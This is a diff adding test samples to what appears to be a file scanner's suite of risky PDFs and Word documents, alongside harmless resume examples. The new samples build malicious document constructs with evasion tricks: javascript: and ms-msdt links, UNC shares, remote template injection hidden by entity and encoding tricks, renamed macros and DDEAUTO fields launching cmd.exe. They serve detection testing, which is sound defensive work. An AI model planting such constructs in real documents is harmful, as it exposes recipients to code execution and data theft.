@@ -206,6 +206,22 @@ export const riskyPdfs: readonly Sample[] = [
     ['automatic', 'launch'],
     pdfPages({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
   ],
+  ['links to a script', ['script'], pdfPages({ page: link('<< /S /URI /URI (Java\\nscript:alert\\(1\\)) >>') })],
+  [
+    'links to a program of the system',
+    ['elsewhere'],
+    pdfPages({ page: link(`<< /S /URI /URI <${Buffer.from('ms-msdt:/id x').toString('hex')}> >>`) }),
+  ],
+  [
+    'links to a shared folder',
+    ['elsewhere'],
+    pdfPages({ page: link('<< /S /URI /URI (file://there/share/x.exe) >>') }),
+  ],
+  [
+    'leads to an article elsewhere',
+    ['elsewhere'],
+    pdfPages({ page: link('<< /S /Thread /F (//there/share/x.pdf) /D 0 >>') }),
+  ],
   [
     'sends a form',
     ['submit'],
@@ -331,6 +347,92 @@ export const riskyWords: readonly (readonly [...Sample, 'doc' | 'docx'])[] = [
     makeDocx({ text: documentXml().replace('Asha', 'Asha '.repeat(1024 * 1024)) }),
     'docx',
   ],
+  [
+    'writes in references that its template is elsewhere',
+    ['elsewhere'],
+    makeDocx({
+      parts: {
+        'word/_rels/settings.xml.rels': relationships(
+          related('attachedTempl&#97;te', 'https://elsewhere.example/x.dotm', 'Extern&#x61;l'),
+        ),
+      },
+    }),
+    'docx',
+  ],
+  [
+    'has a part in wide characters without a mark',
+    ['elsewhere'],
+    makeDocx({
+      parts: {
+        'word/_rels/settings.xml.rels': Buffer.from(
+          relationships(related('attachedTemplate', 'https://elsewhere.example/x.dotm', 'External')),
+          'utf16le',
+        ),
+      },
+    }),
+    'docx',
+  ],
+  [
+    'has a part in an encoding that hides its markup',
+    ['unchecked'],
+    makeDocx({
+      parts: { 'word/_rels/settings.xml.rels': '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships+AD4-' },
+    }),
+    'docx',
+  ],
+  [
+    'has a page embedded as a part of its text',
+    ['embedded'],
+    makeDocx({
+      parts: { 'word/_rels/document.xml.rels': relationships(related('aFChunk', 'x.htm')), 'word/x.htm': '<p>' },
+    }),
+    'docx',
+  ],
+  [
+    'has macros under another name',
+    ['macros'],
+    makeDocx({
+      parts: { 'word/_rels/document.xml.rels': relationships(related('vbaProject', 'x.bin')), 'word/x.bin': 'x' },
+    }),
+    'docx',
+  ],
+  [
+    'has buttons of its own for Word',
+    ['control'],
+    makeDocx({ parts: { 'word/_rels/document.xml.rels': relationships(related('ui/extensibility', 'ui.xml')) } }),
+    'docx',
+  ],
+  [
+    'links to a program of the system',
+    ['elsewhere'],
+    makeDocx({
+      parts: { 'word/_rels/document.xml.rels': relationships(related('hyperlink', 'ms-msdt:/id', 'External')) },
+    }),
+    'docx',
+  ],
+  [
+    'fetches data from a program, between comments and marked sections',
+    ['dde'],
+    makeDocx(fields(begin, instruction('D<!-- x --><?x y?><![CDATA[DEAUTO]]> c:\\\\cmd.exe'), end)),
+    'docx',
+  ],
+  [
+    'fetches data from a database',
+    ['dde'],
+    makeDocx(fields(begin, instruction(' DATABASE \\d "//there/x.mdb"'), end)),
+    'docx',
+  ],
+  [
+    'includes a text from elsewhere, in one tag of single quotes',
+    ['elsewhere'],
+    makeDocx({
+      text: documentXml().replace(
+        '<w:r>',
+        `<w:fldSimple w:x=">" w:instr='INCLUDETEXT "https://elsewhere.example/x"'/><w:r>`,
+      ),
+    }),
+    'docx',
+  ],
   ['has macros', ['macros'], docWith('', 'latin1', { _VBA_PROJECT: Buffer.alloc(99) }), 'doc'],
   [
     'has objects',
@@ -342,6 +444,12 @@ export const riskyWords: readonly (readonly [...Sample, 'doc' | 'docx'])[] = [
     'fetches data from a program',
     ['dde'],
     docWith('\u0013 DDEAUTO c:\\cmd.exe "/k calc" \u0014x\u0015', 'latin1'),
+    'doc',
+  ],
+  [
+    'fetches data from a program, far behind the beginning of the field',
+    ['dde'],
+    docWith(`\u0013${' '.repeat(60)}DDEAUTO c:\\cmd.exe "/k calc" \u0014x\u0015`, 'utf16le'),
     'doc',
   ],
   [
@@ -390,6 +498,25 @@ export const harmlessResumes: readonly (readonly [what: string, content: Buffer,
   [
     'with fields for pages and dates',
     makeDocx(fields(begin, instruction(' PAGE '), end, begin, instruction(' HYPERLINK "https://x.example" '), end)),
+    'docx',
+  ],
+  [
+    'with links of all harmless kinds',
+    makeDocx({
+      parts: {
+        'word/_rels/document.xml.rels': relationships(
+          ...[
+            'mailto:a@x.example',
+            'tel:+91',
+            'www.x.example:80/a',
+            'file:///home/asha/a.pdf',
+            'file:///C:/a.pdf',
+            'a.pdf',
+            '#b',
+          ].map((target) => related('hyperlink', target, 'External')),
+        ),
+      },
+    }),
     'docx',
   ],
   ['that mentions DDE in its text', docWith('Skills: DDE, DDEAUTO', 'latin1'), 'doc'],
